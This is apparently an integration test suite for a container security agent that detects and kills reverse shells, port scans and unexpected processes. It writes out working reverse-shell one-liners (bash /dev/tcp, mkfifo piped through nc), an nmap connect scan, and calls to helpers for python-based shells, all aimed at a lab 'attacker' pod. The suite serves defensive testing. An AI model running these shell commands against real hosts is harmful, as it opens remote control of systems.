import Foundation
import PodwallKernel
import PodwallLab
import PodwallTestSupport
import Testing

/// The agent's process pillar end to end: real containers, real execs, one
/// alert that names the pod, the process and the connection, and the
/// kernel's kill before the shell's first command.
@Suite(.serialized, .enabled(if: Privileged.enabled, Privileged.reason))
struct ProcessDetectionTests {
    static let port: UInt16 = 4444

    final class Scenario {
        let env: AgentLab
        let alertsFile: String
        let container: Container
        let listener: Int32

        init(_ extra: [String] = []) throws {
            env = try AgentLab(pods: 2)
            alertsFile = "/tmp/\(env.lab.id)-alerts.jsonl"
            try env.startAgent(extraArguments: ["--alerts", alertsFile, "--cgroup", try #require(env.lab.cgroupPath)] + extra)
            container = try env.lab.runContainer(in: env.lab.pods[0], name: "web", command: ["sleep", "300"])
            let attacker = env.lab.pods[1]
            listener = try NetworkNamespace.run(attacker.namespace) {
                try LabSocket.tcpListener(address: attacker.ipv4, port: ProcessDetectionTests.port)
            }
        }

        deinit {
            close(listener)
            try? FileManager.default.removeItem(atPath: alertsFile)
        }

        var attacker: Lab.Pod { env.lab.pods[1] }

        func alerts(kind: String) -> [[String: Any]] {
            ((try? String(contentsOfFile: alertsFile, encoding: .utf8)) ?? "").split(separator: "\n").compactMap {
                try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
            }.filter { $0["kind"] as? String == kind }
        }

        func waitForAlert(kind: String) throws -> [String: Any] {
            _ = waitUntil(timeout: 5) { !alerts(kind: kind).isEmpty }
            return try #require(alerts(kind: kind).first, "no \(kind) alert; agent log:\n\(env.log)")
        }
    }

    @Test func aReverseShellIsKilledAtExecAndItsAlertNamesPodProcessAndAttacker() throws {
        // python (not a shell here) hands the connection to the shell it execs.
        let scenario = try Scenario(["--set", "processes.shells=[sh, bash]"])
        let marker = scenario.container.sharedDirectory + "/ran"
        try scenario.env.lab.exec(
            in: scenario.container,
            ReverseShells.pythonExecs(["bash", "-c", "touch /shared/ran"], connectedTo: scenario.attacker.ipv4, port: Self.port),
            check: false)

        let alert = try scenario.waitForAlert(kind: "reverse_shell")
        #expect(!FileManager.default.fileExists(atPath: marker), "the shell ran its first command")
        let source = try #require(alert["source"] as? [String: Any])
        #expect(source["address"] as? String == scenario.env.lab.pods[0].ipv4, "the pod, by its address: \(source)")
        #expect(source["interface"] as? String == scenario.env.lab.pods[0].hostInterface)
        let process = try #require(source["process"] as? [String: Any])
        #expect(process["comm"] as? String == "bash")
        #expect((process["exec_id"] as? String)?.contains(":") == true)
        #expect((process["ancestors"] as? [String])?.first == "python3", "the program that opened the socket: \(process)")
        #expect((process["cgroup_path"] as? String)?.contains("cri-containerd-") == true, "\(process)")
        let evidence = try #require(alert["evidence"] as? [String: Any])
        #expect(evidence["technique"] as? String == "socket_on_stdio")
        #expect(evidence["killed_at_exec"] as? Bool == true)
        #expect(evidence["remote"] as? String == scenario.attacker.ipv4)
        let actions = try #require(alert["actions"] as? [[String: Any]])
        #expect(actions.contains { $0["type"] as? String == "kill" && $0["at_exec"] as? Bool == true }, "\(actions)")
        #expect(actions.contains { $0["type"] as? String == "block" && $0["remote"] as? String == scenario.attacker.ipv4 }, "\(actions)")
        #expect(alert["severity"] as? String == "critical")
        let flows = try #require(alert["flows"] as? [[String: Any]])
        #expect(flows.first?["remote_port"] as? Int == Int(Self.port), "the connection that fed the shell: \(flows)")
    }

    @Test func withKillOffTheShellRunsAndIsStillReported() throws {
        let scenario = try Scenario(["--response", "reverse_shell=alert"])
        try scenario.env.lab.exec(
            in: scenario.container, ["bash", "-c", "bash -c 'touch /shared/ran' >& /dev/tcp/\(scenario.attacker.ipv4)/\(Self.port) 0>&1"],
            check: false)
        let alert = try scenario.waitForAlert(kind: "reverse_shell")
        #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"))
        #expect((alert["evidence"] as? [String: Any])?["killed_at_exec"] as? Bool == false)
        #expect((alert["actions"] as? [[String: Any]])?.contains { $0["type"] as? String == "kill" } == false)
    }

    @Test func aNetworkToolIsReportedAndABenignShellIsNot() throws {
        let scenario = try Scenario()
        try scenario.env.lab.exec(in: scenario.container, ["sh", "-c", "echo healthy > /shared/health"])
        try scenario.env.lab.exec(in: scenario.container, ["nc", "-z", "-w", "2", scenario.attacker.ipv4, String(Self.port)], check: false)
        let tool = try scenario.waitForAlert(kind: "network_tool")
        #expect((tool["evidence"] as? [String: Any])?["remote"] as? String == scenario.attacker.ipv4)
        #expect(scenario.alerts(kind: "reverse_shell").isEmpty, "a shell on pipes is not a reverse shell")
        #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/health"))
    }

    /// A running shell that makes its own stdio the connection (no exec):
    /// killed as dup2 returns, before it reads a command.
    @Test func aShellRedirectingItsOwnStdioToASocketIsKilledAtTheDup() throws {
        let scenario = try Scenario()
        try scenario.env.lab.exec(
            in: scenario.container,
            ReverseShells.selfRedirect(scenario.attacker.ipv4, Self.port, then: "touch /shared/ran"), check: false)
        let alert = try scenario.waitForAlert(kind: "reverse_shell")
        #expect(!FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"), "the shell ran a command")
        let evidence = try #require(alert["evidence"] as? [String: Any])
        #expect(evidence["technique"] as? String == "socket_duped_to_stdio", "\(evidence)")
        #expect(evidence["killed_at_exec"] as? Bool == true)
        #expect(evidence["remote"] as? String == scenario.attacker.ipv4)
        let process = try #require((alert["source"] as? [String: Any])?["process"] as? [String: Any])
        #expect(process["comm"] as? String == "bash")
        #expect((process["arguments"] as? [String])?.first == "bash", "the program from the cache: \(process)")
    }

    /// A shell whose stdio is pipes or a pty relayed by a connected process
    /// of the pod, decided in the kernel at whichever comes second: the
    /// shell's exec (pty.spawn: python connected first; the shell is killed
    /// at exec) or the relay's connect (mkfifo: nc may connect before or
    /// after sh execs; then nc is killed before its connection exists).
    @Test(arguments: ["mkfifo", "mkfifo, shell last", "pty"])
    func aRelayedShellIsKilledInTheKernel(technique: String) throws {
        let scenario = try Scenario()
        let (address, port) = (scenario.attacker.ipv4, Self.port)
        let command =
            switch technique {
            case "mkfifo": ReverseShells.mkfifoNetcat(address, port)
            // nc connects first: the shell is judged at its exec.
            case "mkfifo, shell last":
                ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | (sleep 0.5; exec sh -i) 2>&1 | nc \(address) \(port) > /tmp/f"]
            default: ReverseShells.pythonPTYRelay(address, port, shell: "bash")
            }
        try scenario.env.lab.spawn(in: scenario.container, command)
        _ = try scenario.waitForAlert(kind: "reverse_shell")
        _ = waitUntil(timeout: 3) { scenario.alerts(kind: "reverse_shell").contains { Self.technique(of: $0) == "relayed_stdio" } }
        let alert = try #require(scenario.alerts(kind: "reverse_shell").first { Self.technique(of: $0) == "relayed_stdio" })
        let evidence = try #require(alert["evidence"] as? [String: Any])
        #expect(evidence["relay"] as? String == (technique == "pty" ? "python3" : "nc"))
        #expect(evidence["remote"] as? String == scenario.attacker.ipv4, "\(evidence)")
        let killedAtExec = evidence["killed_at_exec"] as? Bool == true
        let relayKilled = evidence["relay_killed"] as? Bool == true
        if technique != "mkfifo" {
            #expect(killedAtExec, "the relay connected before the shell's exec: \(evidence)")
        } else {
            #expect(killedAtExec || relayKilled, "the shell at its exec or nc at its connect: \(evidence)")
        }
        let process = try #require((alert["source"] as? [String: Any])?["process"] as? [String: Any])
        #expect(process["comm"] as? String == (technique == "pty" ? "bash" : "sh"))
        let actions = try #require(alert["actions"] as? [[String: Any]])
        let kill = actions.first { $0["type"] as? String == "kill" }
        if relayKilled {
            // Its relay gone, the shell dies of SIGPIPE at its first prompt, often before the agent's kill.
        } else {
            #expect(kill?["at_exec"] as? Bool == true, "\(alert)")
        }
        let pid = try #require(process["pid"] as? Int)
        #expect(waitUntil(timeout: 2) { kill_pid_gone(pid) } != nil, "the shell is dead")
    }

    static func technique(of alert: [String: Any]) -> String? {
        (alert["evidence"] as? [String: Any])?["technique"] as? String
    }

    /// Processes of a container share its stdout; one that connected out is
    /// not the relay of a shell that writes to the same pipe.
    @Test func aShellWritingTheSamePipeAsAConnectedProcessIsNotRelayed() throws {
        let scenario = try Scenario()
        let attacker = "\(scenario.attacker.ipv4) \(Self.port)"
        try scenario.env.lab.exec(
            in: scenario.container, ["sh", "-c", "{ nc -z -w 2 \(attacker); echo 'touch /shared/ran' | sh -i; } 2>/dev/null | cat"],
            check: false)
        _ = try scenario.waitForAlert(kind: "network_tool")
        Thread.sleep(forTimeInterval: 0.5)
        #expect(scenario.alerts(kind: "reverse_shell").isEmpty, "\(scenario.alerts(kind: "reverse_shell"))")
        #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"), "the shell ran")
    }

    @Test func aServiceRunningCommandsWhileConnectedIsNotAReverseShell() throws {
        let scenario = try Scenario()
        // Holds a connection (its "database") and runs sh -c, as services do.
        try scenario.env.lab.exec(
            in: scenario.container,
            [
                "python3", "-c",
                "import socket,subprocess;s=socket.create_connection((\"\(scenario.attacker.ipv4)\",\(Self.port)));[subprocess.run([\"sh\",\"-c\",\"ls / > /dev/null\"]) for _ in range(3)];s.close()"
            ])
        Thread.sleep(forTimeInterval: 1)
        #expect(scenario.alerts(kind: "reverse_shell").isEmpty, "\(scenario.alerts(kind: "reverse_shell"))")
    }
}

/// Whether a process is gone (or a zombie).
private func kill_pid_gone(_ pid: Int) -> Bool {
    let stat = (try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8)) ?? ""
    return stat.isEmpty || stat.split(separator: ")").last?.split(separator: " ").first == "Z"
}

/// The per-workload baseline on real execs: learned, then a new binary is reported.
@Suite(.serialized, .enabled(if: Privileged.enabled, Privileged.reason))
struct ProcessBaselineLabTests {
    @Test func aBinaryTheWorkloadNeverRanDuringLearningIsReportedOnce() throws {
        let scenario = try ProcessDetectionTests.Scenario(["--set", "processes.learning_seconds=2"])
        try scenario.env.lab.exec(in: scenario.container, ["sh", "-c", "ls / > /dev/null"])
        Thread.sleep(forTimeInterval: 2.5 * testTimeScale)
        try scenario.env.lab.exec(in: scenario.container, ["sh", "-c", "ls / > /dev/null"])
        try scenario.env.lab.exec(in: scenario.container, ["id"])
        try scenario.env.lab.exec(in: scenario.container, ["id"])
        let alert = try scenario.waitForAlert(kind: "unexpected_process")
        let evidence = try #require(alert["evidence"] as? [String: Any])
        #expect(evidence["binary"] as? String == "/usr/bin/id" || (evidence["binary"] as? String)?.hasSuffix("/id") == true, "\(evidence)")
        #expect(scenario.alerts(kind: "unexpected_process").count == 1, "sh and ls were learned; id is reported once")
    }
}

/// Network alerts name the process too: the one whose connect() opened the flow.
@Suite(.serialized, .enabled(if: Privileged.enabled, Privileged.reason))
struct NetworkAlertProcessTests {
    @Test(.enabled(if: Shell.isInstalled("nmap"), "needs nmap"))
    func aConnectScanFromAContainerNamesNmapAndItsArguments() throws {
        let scenario = try ProcessDetectionTests.Scenario(["--response", "port_scan=alert"])
        try scenario.env.lab.exec(in: scenario.container, ["nmap", "-sT", "-Pn", "-n", "-p", "1-300", scenario.attacker.ipv4], check: false)
        let scan = try scenario.waitForAlert(kind: "port_scan")
        let process = try #require((scan["source"] as? [String: Any])?["process"] as? [String: Any], "\(scan)")
        #expect(process["comm"] as? String == "nmap")
        #expect(process["binary"] as? String == "/usr/bin/nmap", "\(process)")
        #expect((process["arguments"] as? [String])?.contains("-sT") == true)
        #expect((process["exec_id"] as? String) != nil)
    }
}

/// `podwall flows` and `GET /v1/flows` name the process whose connect() opened a flow.
@Suite(.serialized, .enabled(if: Privileged.enabled, Privileged.reason))
struct FlowProcessTests {
    @Test(.enabled(if: Shell.isInstalled("nc") && Shell.isInstalled("curl"), "needs nc and curl"))
    func aFlowNamesTheProcessThatOpenedIt() throws {
        let scenario = try ProcessDetectionTests.Scenario()
        let (env, port) = (scenario.env, Int(ProcessDetectionTests.port))
        let (client, server) = (env.lab.pods[0], env.lab.pods[1])
        // nc holds the connection open while its flow is read (teardown stops it).
        try env.lab.spawn(in: scenario.container, ["sh", "-c", "sleep 30 | nc \(server.ipv4) \(port)"])
        func flow(_ flows: [[String: Any]], on pod: Lab.Pod, _ key: String) -> [String: Any]? {
            flows.first { $0["interface"] as? String == pod.hostInterface && $0[key] as? Int == port }
        }
        var opened: [String: Any]?
        _ = waitUntil(timeout: 5) {
            usleep(200_000)
            opened = flow((try? env.flows()) ?? [], on: client, "remote_port")
            return opened?["process"] != nil
        }
        let process = try #require(opened?["process"] as? [String: Any], "\(String(describing: opened)); agent log:\n\(env.log)")
        #expect(process["comm"] as? String == "nc")
        #expect((process["binary"] as? String)?.hasSuffix("/nc") == true, "\(process)")
        #expect(process["arguments"] as? [String] == ["nc", server.ipv4, String(port)], "\(process)")
        #expect((process["ancestors"] as? [String])?.first == "sh", "\(process)")
        #expect((process["cgroup_path"] as? String)?.hasSuffix("cri-containerd-\(scenario.container.id).scope") == true, "\(process)")
        let (pid, execID) = (try #require(process["pid"] as? Int), try #require(process["exec_id"] as? String))

        // The agent's API says the same; the flow the server's side saw was not opened there.
        let answer = try env.api("GET", "/v1/flows?limit=100")
        let flows = try #require(
            (try JSONSerialization.jsonObject(with: Data(answer.body.utf8)) as? [String: Any])?["flows"] as? [[String: Any]])
        let served = try #require(flow(flows, on: client, "remote_port")?["process"] as? [String: Any], "\(answer.body)")
        #expect(served["exec_id"] as? String == execID && served["pid"] as? Int == pid, "\(served)")
        let accepted = try #require(flow(try env.flows(), on: server, "pod_port"), "the listener's side of the flow")
        #expect(accepted["process"] == nil, "\(accepted)")
        let table = try env.podwall(["flows"]).output
        #expect(table.contains("PROCESS") && table.contains("nc[\(pid)]<-sh"), "\(table)")
    }
}
